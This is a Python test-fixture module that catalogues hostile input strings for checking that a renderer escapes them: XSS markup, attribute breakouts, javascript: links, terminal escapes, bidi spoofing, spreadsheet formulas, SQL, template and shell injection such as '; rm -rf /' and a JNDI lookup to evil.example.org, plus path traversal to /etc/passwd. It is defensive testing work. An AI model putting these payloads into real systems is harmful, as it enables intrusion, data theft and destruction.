"""Hostile texts: what an attacker would write into a field so that it acts where it is shown. A table of kernels by family, each also in the
dresses that break out of a place where texts stand (an attribute, an element, a Markdown link, a line)."""
import re

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

# What acts in a browser, if a page takes it for markup.
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "<style>@import'//evil.example.org'</style>", "<link rel=stylesheet href=//evil.example.org>",
    "<meta http-equiv=refresh content=0>", "<base href=//evil.example.org/>", "<form action=//evil.example.org><input name=q></form>",
    "<object data=x>", "<embed src=x>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<template><script>1</script></template>",
    "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "</title><script>alert(1)</script>", "</textarea><script>1</script>",
    "</style><script>1</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<!--", "<![CDATA[", "<?php 1 ?>", "<!DOCTYPE x [",
    "<scr<script>ipt>", "<<script>alert(1)//<</script>", "<svg><script href=data:,alert(1) /></svg>", "<svg><use href=\"data:image/svg+xml,x#x\"/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "<svg><foreignObject><body onload=1></foreignObject></svg>",
    "<video><source onerror=alert(1)></video>", "<x onclick=alert(1)>x</x>", "<\u017fcript>alert(1)</\u017fcript>", "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<img src=x:x\u2028onerror=alert(1)>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<noscript><p title=\"</noscript><img src=x onerror=1>\">",
)
# What breaks out of an attribute.
ATTRIBUTES = ("\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='", "\" style=position:fixed;top:0 \"", "x` onmouseover=alert(1) `",
              "\"autofocus onfocus=alert(1) \"", "\"><base href=//evil.example.org>", "x\" srcdoc=\"<script>1</script>", "\" formaction=javascript:1 \"")
# Entities that must not be read a second time.
ENTITIES = ("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script>", "&amp;lt;b&amp;gt;", "&#0;", "&#x202e;", "&Tab;&NewLine;&colon;",
            "java&#x0A;script:alert(1)", "&quot; onclick=1", "&apos;&#39;&#x27;", "&lt", "&notanentity;", "&")
# Links of other schemes.
LINKS = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "\u00a0javascript:alert(1)",
         "javascript\uff1aalert(1)", "javascript://example.org/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
         "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "file:///etc/passwd", "view-source:x", "blob:x", "about:blank", "feed:javascript:1",
         "//evil.example.org/", "\\\\evil.example.org\\share", "https://example.org\"onclick=alert(1)", "https://example.org/<script>", "https://",
         "https:javascript:alert(1)", "https://example.org@evil.example.org/", "http://\u202egro.elpmaxe/", "https://example.org/\u2028x", "https:///x", "?q=x", "#x",
         "ftp://example.org/", "tel:1", "mailto:x@example.org?bcc=y@example.org", "HTTPS://EXAMPLE.ORG/", "https://example.org/\u0085x", "steam://run/1")
# Markdown, of every kind that makes a link, an image or markup.
MARKDOWN = ("[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1) \"t\")", "[x](<javascript:alert(1)>)", "[x](data:text/html,<script>1</script>)", "[x][1]\n\n[1]: javascript:alert(1)",
            "<javascript:alert(1)>", "![x](x onerror=alert(1))", "![x](https://evil.example.org/pixel.png)", "![x][1]\n\n[1]: //evil.example.org/x.png", "[x](//evil.example.org)",
            "[x](\\\\evil.example.org)", "[a](b\"onclick=alert(1))", "[a]: # (<script>)", "<div onclick=alert(1)>\n\n*x*\n\n</div>", "`</code><script>1</script>`",
            "```\n</pre><script>1</script>\n```", "# <img src=x>", "> <svg onload=1>", "- [ ] <input>", "| <b> |\n|---|", "[x](java&#115;cript:1)", "[x](java\\script:1)",
            "[" * 60 + "]" * 60, "*" * 120, "> " * 80 + "x", "[^1]\n\n[^1]: javascript:1", "<https://example.org/\"onclick=1>", "http://example.org/\"onclick=alert(1)", "www.evil.example.org")
# What acts on a terminal. With C0 controls or DEL: publication refuses them.
TERMINAL_C0 = ("\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;https://evil.example.org\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;eA==\x07", "\x1bP+q544e\x1b\\", "\x1b[2J\x1b[H", "\x1b[6n", "a\bb", "a\x7fb",
               "a\0b", "\x0e\x0f", "\x05", "a\fb\vc", "\x1a")
TERMINAL = ("\u009b31mred", "\u009d0;title\u009c", "\u0090+q544e\u009c", "\u0085next", "\u008dreverse", "\u009a", "\u0080\u009f", "\u009b2J", "over\rwritten", "a\r\nb", "\r", "\u2028line", "\u2029paragraph")
# Letters that turn, hide or look like others.
UNICODE = tuple(f"a{c}txt.exe" for c in BIDI) + (
    "\u202egnp.exe", "\u2066abc\u2069", "\u2067\u202e\u2066" * 20, "\u200b\u200c\u200d\u2060", "\ufefftitle", "title\ufeff", "\u061c\u200e\u200f", "\u00adsoft\u00adhyphen", "x\u0300" * 60,
    "\u202e" + "x" * 180, "\U000e0041\U000e0042\U000e007f", "\ufff9a\ufffab\ufffb", "\ufffe\uffff", "\U0010fffe", "\U0001f469\u200d\U0001f4bb", "p\u0430yp\u0430l", "\ufb01\ufb02", "\u1e9e\u0130\u0131",
    "\u0fd0" * 40, "\ufdfa" * 40, "\u115f\u1160\u3164\uffa0", "\u034f" * 20, "\ue000\U000f0000", "\u2400\u241b", "\u0000".replace("\0", "\u00c0\u0080"), "\u00ed\u00a0\u0080", "\\ud800\\udc00", "\\u003cscript\\u003e",
    "\\x3cscript\\x3e", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "\u05d0\u05d1\u05d2 (x) 12")
SURROGATES = ("\ud800", "a\udfffb", "\udc00\ud800")
# Cells that a spreadsheet would run.
FORMULAS = ("=cmd|'/C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=HYPERLINK(\"http://evil.example.org\",\"x\")", "=IMPORTXML(\"//evil.example.org\",\"//x\")",
            "-2+3+cmd|' /C calc'!D2", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM", "\ufeff=1+1", "\"=1+1\"", "',=1+1", "\",=1+1,\"", "x\"\n=1+1", "x; =1+1", "x,=1+1", "'=1+1", "%0A=1+1")
# Languages that somebody might put a text through.
TEMPLATES = ("{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% include 'x' %}", "%s%n%x%d", "%1$s %99999d", "' OR 1=1 --", "\"; DROP TABLE object; --", "$(id)", "`id`", "; rm -rf /", "| id", "a && b", "*", "NEAR(a b)",
             "\"unclosed", "title:x", "a AND NOT b", "${jndi:ldap://evil.example.org/x}", "<%00>", "@include x", "{\"$ne\":1}", "__proto__", "constructor.prototype")
# Names of files.
PATHS = ("../../../../etc/passwd", "..\\..\\x.exe", "/etc/passwd", "C:\\x.exe", "x.pdf.exe", "x\u202efdp.exe", "CON", ".htaccess", "-rf", "--version", "a/b/../c", "%2e%2e%2fx", "x.svg", "x.html;.png", "~/.ssh/x", "x.csv\ny")
# Nothing but length.
LONG = ("x" * 200, "x" * 1000, "\u00e8" * 500, "x " * 480, "\n" .join("x" * 300), "a" * 199 + "<", "&" * 1000, "<" * 1000, "\"" * 200, "\u4e2d" * 200, "\U0001f600" * 200)
# Plain texts in the wrong clothes, of our own formats.
DRAFTS = ("## overview.it\nx", "title.it: x", "# comment", "\\# x", "\\", "- item\n- item", "?", "-", "specola-draft 1 case", "'''", "IT-2", "IT-2\n\nx: y", "null", "true", "[]", "{}", "0", "-0", "1e999", "\u00a0", "\u2003", "nil")

DRESSES = ("{}", "\">{}", "a {} z")  # as it is, behind a quote, within a line
FAMILIES = {"markup": (MARKUP, DRESSES), "attributes": (ATTRIBUTES, DRESSES), "entities": (ENTITIES, DRESSES[:1]), "links": (LINKS, DRESSES[:1]),
            "Markdown": (MARKDOWN, DRESSES[::2]), "terminal, C0": (TERMINAL_C0, DRESSES[:1]), "terminal": (TERMINAL, DRESSES[::2]), "Unicode": (UNICODE, DRESSES[:1]),
            "surrogates": (SURROGATES, DRESSES[:1]), "formulas": (FORMULAS, DRESSES[:1]), "templates": (TEMPLATES, DRESSES[:1]), "paths": (PATHS, DRESSES[:1]),
            "long": (LONG, DRESSES[:1]), "drafts": (DRAFTS, DRESSES[:1])}


def all_payloads():
    """(family, text) of each, no text twice."""
    seen = {}
    for family, (kernels, dresses) in FAMILIES.items():
        for dress in dresses:
            for kernel in kernels:
                seen.setdefault(dress.replace("{}", kernel), family)
    return [(family, text) for text, family in seen.items()]


def is_refused(text):
    """Whether docs/protocol.md 1 lets no str hold it: C0 controls but TAB, LF and (as a line end) CR; DEL; surrogates."""
    return any((c < " " and c not in "\t\n\r") or c == "\x7f" or "\ud800" <= c <= "\udfff" for c in text)


HARMFUL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")  # must not reach a terminal or a page as it is


def harmful(text):
    """The first harmful characters of a text."""
    return HARMFUL.findall(text)[:5]


def without_harm(text):
    """How a page shows it."""
    return HARMFUL.sub("\ufffd", text)
